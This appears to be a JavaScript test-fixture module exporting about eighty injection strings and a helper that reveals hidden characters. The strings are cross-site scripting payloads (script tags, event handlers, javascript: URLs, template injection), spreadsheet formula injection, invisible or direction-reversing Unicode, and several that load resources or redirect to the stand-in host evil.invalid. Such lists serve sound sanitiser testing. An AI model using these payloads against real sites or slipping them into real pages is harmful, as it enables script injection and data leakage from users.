/* payloads: eighty texts that would be code, markup, an address or a trick to the eye. No test of its own. */
const act = "window.hit=1";
export const PAYLOADS = [
  `<script>${act}</script>`, `</script><script>${act}</script>`, `</ScRiPt ><script>${act}</script>`, `<img src=x onerror=${act}>`,
  `"><img src=x onerror=${act}>`, `'><img src=x onerror=${act}>`, `<svg onload=${act}>`, `<svg><script>${act}</script></svg>`,
  `<svg/onload=${act}//`, `<math><mi//xlink:href="data:x,<script>${act}</script>">`, `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<iframe src=javascript:parent.hit=1>`, `<object data=javascript:${act}>`, `<embed src=javascript:${act}>`, `<a href=javascript:${act}>x</a>`,
  `javascript:${act}`, `data:text/html,<script>${act}</script>`, `vbscript:x`, `<body onload=${act}>`, `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`, `<textarea autofocus onfocus=${act}>`, `<video><source onerror=${act}></video>`, `<audio src=x onerror=${act}>`,
  `<details open ontoggle=${act}>`, `<marquee onstart=${act}>`, `<template><script>${act}</script></template>`, `<style>@import 'http://evil.invalid/x.css'</style>`,
  `<style>*{background:url(http://evil.invalid/x)}</style>`, `<link rel=stylesheet href=http://evil.invalid/x.css>`, `<meta http-equiv=refresh content="0;url=http://evil.invalid/">`,
  `<base href=http://evil.invalid/>`, `<form action=http://evil.invalid/><button autofocus>`, `<img src=http://evil.invalid/x.png>`, `<img srcset="http://evil.invalid/x.png 1x">`,
  `<link rel=prefetch href=http://evil.invalid/>`, `<link rel=dns-prefetch href=//evil.invalid>`, `url(http://evil.invalid/x)`, `expression(${act})`, `style="x:expression(${act})"`,
  `" onmouseover="${act}`, `' onmouseover='${act}`, `\` onmouseover=\`${act}`, `x" autofocus onfocus="${act}`, `x' style='position:fixed;inset:0`, `"/><script>${act}</script>`,
  `<!--`, `-->`, `<!--<script>`, `--!><script>${act}</script>`, `]]><script>${act}</script>`, `<![CDATA[<script>${act}</script>]]>`, `<?xml version="1.0"?><script>${act}</script>`,
  `&lt;script&gt;${act}&lt;/script&gt;`, `&#60;script&#62;${act}&#60;/script&#62;`, `&`, `&amp;amp;`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, `\\x3cscript\\x3e`,
  `%3Cscript%3E${act}%3C/script%3E`, `\${${act}}`, `{{constructor.constructor('${act}')()}}`, `<%= ${act} %>`, `#{${act}}`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `\u2028${act}\u2029`, `\u202e>tpircs<`, `\u2066abc\u2069`, `\u200b\ufeff\u00ad`, `a\u0000b`, `\u001b[2J\u001b]0;x\u0007`, `=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1)`,
  `'); ${act}; //`, `"); ${act}; ("`, `x`.repeat(100000),
];

/* As the page shows it: hidden characters are made visible. */
export const shown = (text) => text.replace(/[\u0000-\u001f\u00ad\u200b\u2028-\u202e\u2066-\u2069\ufeff]/g, (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"));
